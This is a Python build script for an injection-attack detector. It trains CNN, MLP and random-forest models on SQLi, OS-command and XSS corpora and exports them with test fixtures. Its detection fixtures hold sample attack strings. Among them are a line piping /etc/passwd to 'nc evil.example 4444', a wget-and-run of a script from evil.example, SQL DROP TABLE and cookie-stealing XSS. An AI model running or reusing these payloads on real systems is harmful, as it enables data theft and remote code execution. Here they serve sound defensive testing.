#!/usr/bin/env python3
"""Build committed model bundles and reference-vector fixtures.

TensorFlow/Keras and scikit-learn act as the independent oracle: bundles
are exported from their models and the expected probabilities are their
own forward passes. Everything runs in float64 and is seeded, so committed
fixtures are reproducible.

Outputs:
  models/reference/   random-weight CNN/MLP + small forest, with 50
                      (input, probability) pairs each
  models/desk/        desk-trained detector bundles (sqli/osi CNN,
                      xss forest+MLP) + end-to-end detection fixtures
  models/toy/         hand-computed arithmetic fixtures (documented)
"""

import csv
import gzip
import json
import random
from pathlib import Path

import numpy as np

ROOT = Path(__file__).resolve().parent.parent
MODELS = ROOT / "models"
CORPORA = ROOT / "data" / "corpora"

import os
os.environ.setdefault("TF_CPP_MIN_LOG_LEVEL", "3")

import tensorflow as tf  # noqa: E402
from sklearn.ensemble import RandomForestClassifier  # noqa: E402
from sklearn.neural_network import MLPClassifier  # noqa: E402  (unused fallback)

from gqlshield.embedding import hash_embed  # noqa: E402
from gqlshield.features import features_for  # noqa: E402

tf.keras.backend.set_floatx("float64")

EMBED = {"sqli": {"dim": 32, "seed": 101},
         "osi": {"dim": 32, "seed": 102},
         "xss": {"dim": 20, "seed": 103}}
FEATURE_COUNT = {"sqli": 11, "osi": 9, "xss": 8}


def seeded(seed):
    random.seed(seed)
    np.random.seed(seed)
    tf.random.set_seed(seed)


def round_sig(arr, digits=7):
    arr = np.asarray(arr, dtype=np.float64)
    out = np.zeros_like(arr)
    nz = arr != 0
    mags = np.floor(np.log10(np.abs(arr[nz])))
    out[nz] = np.round(arr[nz] / 10 ** mags, digits - 1) * 10 ** mags
    return out


# ---------------------------------------------------------------------------
# Keras model builders
# ---------------------------------------------------------------------------

def build_cnn(input_dim, bn_momentum=0.99):
    # Low bn_momentum keeps inference-mode moving statistics usable after
    # desk-scale training runs; it does not change the exported math.
    layers = tf.keras.layers
    model = tf.keras.Sequential([layers.Input(shape=(input_dim, 1))])
    for filters in (128, 256, 512):
        model.add(layers.Conv1D(filters, 3, padding="valid"))
        model.add(layers.BatchNormalization(epsilon=1e-3, momentum=bn_momentum))
        model.add(layers.Activation("relu"))
        model.add(layers.MaxPooling1D(2))
    model.add(layers.GlobalMaxPooling1D())
    model.add(layers.Dense(256, activation="relu"))
    model.add(layers.Dropout(0.5))
    model.add(layers.Dense(1, activation="sigmoid"))
    return model


def build_mlp(input_dim, hidden=64):
    layers = tf.keras.layers
    return tf.keras.Sequential([
        layers.Input(shape=(input_dim,)),
        layers.Dense(hidden, activation="relu"),
        layers.Dense(1, activation="sigmoid"),
    ])


def randomize_weights(model, rng):
    """Non-trivial random weights, including batch-norm moving statistics."""
    for layer in model.layers:
        weights = layer.get_weights()
        if not weights:
            continue
        if isinstance(layer, tf.keras.layers.BatchNormalization):
            size = weights[0].shape
            layer.set_weights([
                rng.uniform(0.5, 1.5, size),       # gamma
                rng.normal(0.0, 0.2, size),        # beta
                rng.normal(0.0, 0.3, size),        # moving mean
                rng.uniform(0.3, 1.5, size),       # moving variance
            ])
        else:
            layer.set_weights([rng.normal(0.0, 0.35, w.shape) for w in weights])


def snap_rounded_weights(model):
    """Round weights to 7 significant digits and write them back, so the
    exported JSON and the oracle predictions use identical numbers."""
    for layer in model.layers:
        weights = layer.get_weights()
        if weights:
            layer.set_weights([round_sig(w) for w in weights])


def export_keras(model, kind, input_dim, embedding=None, scaler=None,
                 threshold=0.5):
    layers_out = []
    for layer in model.layers:
        if isinstance(layer, tf.keras.layers.Conv1D):
            kernel, bias = layer.get_weights()
            layers_out.append({
                "type": "conv1d",
                "filters": int(kernel.shape[2]),
                "kernel": int(kernel.shape[0]),
                "weights": kernel.transpose(2, 1, 0).tolist(),
                "bias": bias.tolist(),
            })
        elif isinstance(layer, tf.keras.layers.BatchNormalization):
            gamma, beta, mean, var = layer.get_weights()
            layers_out.append({"type": "batch_norm", "gamma": gamma.tolist(),
                               "beta": beta.tolist(), "mean": mean.tolist(),
                               "var": var.tolist()})
        elif isinstance(layer, tf.keras.layers.MaxPooling1D):
            layers_out.append({"type": "max_pool", "size": 2})
        elif isinstance(layer, tf.keras.layers.GlobalMaxPooling1D):
            layers_out.append({"type": "global_max_pool"})
        elif isinstance(layer, tf.keras.layers.Dense):
            kernel, bias = layer.get_weights()
            activation = layer.get_config()["activation"]
            layers_out.append({"type": "dense",
                               "weights": kernel.T.tolist(),
                               "bias": bias.tolist(),
                               "activation": activation})
        # Activation/Dropout layers carry no weights and are implicit
    bundle = {
        "format_version": 1,
        "kind": kind,
        "input_dim": input_dim,
        "feature_schema_version": 1,
        "decision_threshold": threshold,
        "layers": layers_out,
    }
    if embedding is not None:
        bundle["embedding"] = {"provider": "hash_ngram", **embedding}
    if scaler is not None:
        bundle["scaler"] = {"means": scaler[0].tolist(),
                            "stds": scaler[1].tolist()}
    return bundle


def export_forest(forest, input_dim, embedding=None, scaler=None,
                  threshold=0.5):
    trees = []
    for estimator in forest.estimators_:
        tree = estimator.tree_
        nodes = []
        for i in range(tree.node_count):
            if tree.children_left[i] == -1:
                counts = tree.value[i][0]
                prob = float(counts[1] / counts.sum()) if counts.sum() else 0.0
                nodes.append({"feature": -1, "threshold": 0.0,
                              "left": -1, "right": -1, "value": prob})
            else:
                nodes.append({"feature": int(tree.feature[i]),
                              "threshold": float(tree.threshold[i]),
                              "left": int(tree.children_left[i]),
                              "right": int(tree.children_right[i]),
                              "value": 0.0})
        trees.append({"nodes": nodes})
    bundle = {
        "format_version": 1,
        "kind": "forest",
        "input_dim": input_dim,
        "feature_schema_version": 1,
        "decision_threshold": threshold,
        "trees": trees,
    }
    if embedding is not None:
        bundle["embedding"] = {"provider": "hash_ngram", **embedding}
    if scaler is not None:
        bundle["scaler"] = {"means": scaler[0].tolist(),
                            "stds": scaler[1].tolist()}
    return bundle


def write_bundle(bundle, path):
    path.parent.mkdir(parents=True, exist_ok=True)
    text = json.dumps(bundle, separators=(",", ":"))
    if str(path).endswith(".gz"):
        with gzip.open(path, "wt", encoding="utf-8") as fh:
            fh.write(text)
    else:
        path.write_text(text, encoding="utf-8")
    print(f"wrote {path} ({path.stat().st_size / 1e6:.2f} MB)")


# ---------------------------------------------------------------------------
# Input assembly (mirrors the engine: embedding || scaled features)
# ---------------------------------------------------------------------------

def assemble(kind, payload, scaler=None):
    spec = EMBED[kind]
    emb = hash_embed(payload, spec["dim"], spec["seed"])
    feats = np.asarray(features_for(kind, payload).values, dtype=np.float64)
    if scaler is not None:
        means, stds = scaler
        scaled = feats.copy()
        nz = stds != 0
        scaled[nz] = (feats[nz] - means[nz]) / stds[nz]
        feats = scaled
    return np.concatenate([np.asarray(emb), feats])


def load_corpus(kind):
    rows = []
    with open(CORPORA / f"{kind}.csv", encoding="utf-8") as fh:
        for row in csv.DictReader(fh):
            rows.append((row["payload"], int(row["label"])))
    return rows


# ---------------------------------------------------------------------------
# Fixture builders
# ---------------------------------------------------------------------------

def reference_inputs(rng, input_dim, kind, count=50):
    """Half realistic assembled inputs, half uniform noise."""
    corpus = load_corpus(kind)
    picks = rng.sample(range(len(corpus)), count // 2)
    inputs = [assemble(kind, corpus[i][0]) for i in picks]
    for _ in range(count - len(inputs)):
        inputs.append(np.random.uniform(-2.0, 2.0, input_dim))
    return [np.asarray(x, dtype=np.float64) for x in inputs]


def make_reference_models():
    out_dir = MODELS / "reference"
    rng = np.random.RandomState(7)

    seeded(7)
    input_dim = 43
    cnn = build_cnn(input_dim)
    randomize_weights(cnn, rng)
    snap_rounded_weights(cnn)
    bundle = export_keras(cnn, "cnn1d", input_dim)
    write_bundle(bundle, out_dir / "cnn_random.json.gz")
    inputs = reference_inputs(random.Random(71), input_dim, "sqli")
    batch = np.stack(inputs)[..., None]
    probs = cnn.predict(batch, verbose=0).reshape(-1)
    vectors = [{"input": x.tolist(), "probability": float(p)}
               for x, p in zip(inputs, probs)]
    (out_dir / "cnn_random_vectors.json").write_text(
        json.dumps({"bundle": "cnn_random.json.gz", "vectors": vectors}))

    seeded(8)
    mlp = build_mlp(28, hidden=64)
    randomize_weights(mlp, np.random.RandomState(8))
    snap_rounded_weights(mlp)
    bundle = export_keras(mlp, "mlp", 28)
    write_bundle(bundle, out_dir / "mlp_random.json")
    inputs = reference_inputs(random.Random(81), 28, "xss")
    probs = mlp.predict(np.stack(inputs), verbose=0).reshape(-1)
    vectors = [{"input": x.tolist(), "probability": float(p)}
               for x, p in zip(inputs, probs)]
    (out_dir / "mlp_random_vectors.json").write_text(
        json.dumps({"bundle": "mlp_random.json", "vectors": vectors}))

    # Small forest trained on the xss corpus (10 trees, spec desk example)
    seeded(9)
    rows = load_corpus("xss")
    X = np.stack([assemble("xss", p) for p, _ in rows])
    y = np.array([label for _, label in rows])
    forest = RandomForestClassifier(n_estimators=10, random_state=9,
                                    max_depth=8)
    forest.fit(X, y)
    bundle = export_forest(forest, 28)
    write_bundle(bundle, out_dir / "forest_small.json")
    rng_f = random.Random(91)
    picks = rng_f.sample(range(len(rows)), 25)
    inputs = [X[i] for i in picks]
    inputs += [np.random.RandomState(92).uniform(-2, 2, 28) for _ in range(25)]
    probs = forest.predict_proba(np.stack(inputs))[:, 1]
    vectors = [{"input": np.asarray(x).tolist(), "probability": float(p)}
               for x, p in zip(inputs, probs)]
    (out_dir / "forest_small_vectors.json").write_text(
        json.dumps({"bundle": "forest_small.json", "vectors": vectors}))


def train_split(rows, rng, train_frac=0.8):
    rows = list(rows)
    rng.shuffle(rows)
    cut = int(len(rows) * train_frac)
    return rows[:cut], rows[cut:]


def metrics(y_true, y_pred):
    tp = int(np.sum((y_true == 1) & (y_pred == 1)))
    fp = int(np.sum((y_true == 0) & (y_pred == 1)))
    fn = int(np.sum((y_true == 1) & (y_pred == 0)))
    tn = int(np.sum((y_true == 0) & (y_pred == 0)))
    precision = tp / (tp + fp) if tp + fp else 0.0
    recall = tp / (tp + fn) if tp + fn else 0.0
    f1 = 2 * precision * recall / (precision + recall) if precision + recall else 0.0
    return {"accuracy": (tp + tn) / len(y_true), "precision": precision,
            "recall": recall, "f1": f1}


def make_desk_cnn(kind, seed):
    seeded(seed)
    rows = load_corpus(kind)
    rng = random.Random(seed)
    train, test = train_split(rows, rng)
    feats_raw = np.stack([
        np.asarray(features_for(kind, p).values, dtype=np.float64)
        for p, _ in train])
    means = feats_raw.mean(axis=0)
    stds = feats_raw.std(axis=0)
    scaler = (round_sig(means, 9), round_sig(stds, 9))

    def make_xy(split):
        X = np.stack([assemble(kind, p, scaler) for p, _ in split])[..., None]
        y = np.array([label for _, label in split], dtype=np.float64)
        return X, y

    X_train, y_train = make_xy(train)
    X_test, y_test = make_xy(test)
    input_dim = X_train.shape[1]

    model = build_cnn(input_dim, bn_momentum=0.6)
    model.compile(optimizer=tf.keras.optimizers.Adam(0.001),
                  loss="binary_crossentropy", metrics=["accuracy"])
    stop = tf.keras.callbacks.EarlyStopping(patience=5, monitor="val_loss",
                                            restore_best_weights=True)
    model.fit(X_train, y_train, validation_split=0.15, epochs=20, batch_size=32,
              callbacks=[stop], verbose=0)
    snap_rounded_weights(model)
    probs = model.predict(X_test, verbose=0).reshape(-1)
    scores = metrics(y_test, (probs >= 0.5).astype(int))
    print(f"desk {kind} cnn: {scores}")
    assert scores["f1"] >= 0.97, f"desk {kind} CNN underfit: {scores}"

    bundle = export_keras(model, "cnn1d", input_dim, embedding=EMBED[kind],
                          scaler=scaler)
    write_bundle(bundle, MODELS / "desk" / f"{kind}_cnn.json.gz")
    return model, scaler


def make_desk_xss(seed=50):
    seeded(seed)
    rows = load_corpus("xss")
    rng = random.Random(seed)
    train, test = train_split(rows, rng)
    feats_raw = np.stack([
        np.asarray(features_for("xss", p).values, dtype=np.float64)
        for p, _ in train])
    scaler = (round_sig(feats_raw.mean(axis=0), 9),
              round_sig(feats_raw.std(axis=0), 9))

    X_train = np.stack([assemble("xss", p, scaler) for p, _ in train])
    y_train = np.array([label for _, label in train], dtype=np.float64)
    X_test = np.stack([assemble("xss", p, scaler) for p, _ in test])
    y_test = np.array([label for _, label in test], dtype=np.float64)

    forest = RandomForestClassifier(n_estimators=10, random_state=seed,
                                    max_depth=10)
    forest.fit(X_train, y_train.astype(int))
    forest_probs = forest.predict_proba(X_test)[:, 1]
    print("desk xss forest:", metrics(y_test, (forest_probs >= 0.5).astype(int)))

    mlp = build_mlp(X_train.shape[1], hidden=64)
    mlp.compile(optimizer=tf.keras.optimizers.Adam(0.001),
                loss="binary_crossentropy")
    mlp.fit(X_train, y_train, validation_split=0.15, epochs=20, batch_size=32,
            callbacks=[tf.keras.callbacks.EarlyStopping(
                patience=5, monitor="val_loss", restore_best_weights=True)],
            verbose=0)
    snap_rounded_weights(mlp)
    mlp_probs = mlp.predict(X_test, verbose=0).reshape(-1)
    print("desk xss mlp:", metrics(y_test, (mlp_probs >= 0.5).astype(int)))

    ensemble = (forest_probs + mlp_probs) / 2
    scores = metrics(y_test, (ensemble >= 0.5).astype(int))
    print("desk xss ensemble:", scores)
    assert scores["f1"] >= 0.97, f"xss ensemble underfit: {scores}"

    write_bundle(export_forest(forest, X_train.shape[1], embedding=EMBED["xss"],
                               scaler=scaler),
                 MODELS / "desk" / "xss_forest.json")
    write_bundle(export_keras(mlp, "mlp", X_train.shape[1],
                              embedding=EMBED["xss"], scaler=scaler),
                 MODELS / "desk" / "xss_mlp.json")
    return forest, mlp, scaler


DETECTION_PAYLOADS = {
    "sqli": [("1' UNION SELECT password FROM users--", True),
             ("' OR '1'='1' --", True),
             ("'; DROP TABLE accounts; --", True),
             ("alice@example.com", False),
             ("please update my shipping address", False),
             ("the select committee will meet", False)],
    "osi": [("; cat /etc/passwd | nc evil.example 4444", True),
            ("$(whoami)", True),
            ("wget http://evil.example/x.sh && sh x.sh", True),
            ("alice@example.com", False),
            ("order #29 status", False),
            ("meeting notes for project alpha", False)],
    "xss": [("<img src=x onerror=alert(1)>", True),
            ("<script>alert(1)</script>", True),
            ("javascript:alert(document.cookie)", True),
            ("alice@example.com", False),
            ("I read the javascript tutorial yesterday", False),
            ("price is $4.99", False)],
}


def make_detection_fixtures(cnn_models, xss_models):
    fixtures = {}
    for kind, payloads in DETECTION_PAYLOADS.items():
        entries = []
        for payload, expected in payloads:
            if kind == "xss":
                forest, mlp, scaler = xss_models
                x = assemble(kind, payload, scaler)
                p_forest = float(forest.predict_proba(x[None, :])[:, 1][0])
                p_mlp = float(mlp.predict(x[None, :], verbose=0).reshape(-1)[0])
                prob = (p_forest + p_mlp) / 2
            else:
                model, scaler = cnn_models[kind]
                x = assemble(kind, payload, scaler)
                prob = float(model.predict(x[None, :, None], verbose=0).reshape(-1)[0])
            malicious = prob >= 0.5
            assert malicious == expected, \
                f"{kind} desk model disagrees on {payload!r}: p={prob:.4f}"
            entries.append({"payload": payload, "probability": prob,
                            "malicious": malicious})
        fixtures[kind] = entries
    out = MODELS / "desk" / "detection_fixtures.json"
    out.write_text(json.dumps(fixtures, indent=1))
    print(f"wrote {out}")


TOY_FIXTURES = {
    "cnn": {
        "derivation": (
            "input [1,2,3,4,-5,6,0,1]; conv k3 weights [1,1,1] bias 0 -> "
            "window sums [6,9,2,5,1,7]; batch norm identity (gamma=1, beta=0, "
            "mean=0, var=1-1e-3 so var+eps=1); relu unchanged; max pool 2 -> "
            "[9,5,7]; global max -> 9; dense sigmoid w=0.5 b=-4 -> z=0.5; "
            "sigmoid(0.5)=0.6224593312018546"),
        "input": [1, 2, 3, 4, -5, 6, 0, 1],
        "conv_weights": [[[1.0, 1.0, 1.0]]],
        "conv_bias": [0.0],
        "bn": {"gamma": [1.0], "beta": [0.0], "mean": [0.0], "var": [0.999]},
        "dense_w": [[0.5]],
        "dense_b": [-4.0],
        "probability": 0.6224593312018546,
    },
    "mlp": {
        "derivation": (
            "input [1,2]; hidden relu w=[[1,-0.5]] b=[0.25] -> z=1-1+0.25="
            "0.25 -> relu 0.25; output sigmoid w=[[2]] b=[-0.75] -> z=-0.25; "
            "sigmoid(-0.25)=0.4378234991142019"),
        "input": [1.0, 2.0],
        "hidden_w": [[1.0, -0.5]],
        "hidden_b": [0.25],
        "out_w": [[2.0]],
        "out_b": [-0.75],
        "probability": 0.4378234991142019,
    },
}


def make_toy_fixtures():
    out = MODELS / "toy"
    out.mkdir(parents=True, exist_ok=True)
    (out / "toy_fixtures.json").write_text(json.dumps(TOY_FIXTURES, indent=1))
    print(f"wrote {out / 'toy_fixtures.json'}")


def main():
    make_reference_models()
    cnn_models = {"sqli": make_desk_cnn("sqli", 31),
                  "osi": make_desk_cnn("osi", 32)}
    xss_models = make_desk_xss(50)
    make_detection_fixtures(cnn_models, xss_models)
    make_toy_fixtures()


if __name__ == "__main__":
    main()
